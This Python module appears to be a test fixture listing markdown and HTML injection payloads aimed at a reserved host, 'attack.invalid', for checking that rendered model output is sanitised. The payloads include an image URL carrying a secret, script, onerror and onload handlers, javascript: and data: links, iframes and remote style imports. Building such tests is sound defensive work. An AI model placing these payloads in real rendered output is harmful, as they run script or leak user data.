"""What a model could write to make a browser load, run or misshow something; the host is one nobody owns."""

HOST = "attack.invalid"

ATTACKS = (
    f"![a picture](https://{HOST}/leak.png?q=secret)",
    f"![][ref]\n\n[ref]: https://{HOST}/reference.png",
    f'<img src="https://{HOST}/html.png" onerror="window.stolen=1">',
    "<script>window.stolen = 1</script>",
    "<svg onload=window.stolen=1></svg>",
    f"<iframe src=https://{HOST}/frame></iframe>",
    f'<link rel=stylesheet href="https://{HOST}/style.css"><style>@import "https://{HOST}/import.css";</style>',
    f'<div style="background:url(https://{HOST}/style.png)">styled</div>',
    "[click me](javascript:window.stolen=1)",
    "[click me](JaVaScRiPt:window.stolen=1 'title')",
    "<javascript:window.stolen=1>",
    "[data](data:text/html,<script>window.stolen=1</script>)",
    f"[a bank](https://{HOST}/login) and https://{HOST}/bare and <https://{HOST}/angle>",
    f"[![nested](https://{HOST}/nested.png)](https://{HOST}/outer)",
    ":material/home: :red[red] :tada: :streamlit: :shimmer[x] :small[y] :rainbow[z] :color[c]{foreground=red}",
    "$x^2$ and $$\\int_0^1$$ and \\(a\\) and \\[b\\]",
    f"$\\href{{javascript:window.stolen=1}}{{x}}$ $\\includegraphics{{https://{HOST}/math.png}}$",
    f"```mermaid\ngraph TD; A[<img src=https://{HOST}/mermaid.png>] --> B\n```",
    "`</code><script>window.stolen=1</script>`",
    '```\n</code></pre><img src=x onerror="window.stolen=1">\n```',
    '| a |\n|---|\n| <img src=x onerror="window.stolen=1"> |',
    "-> <- --> >= ~=",
    "\ud800 lone \x00 surrogates \x1b[31m and controls",
    "```` ``` `` ` unbalanced ticks",
)
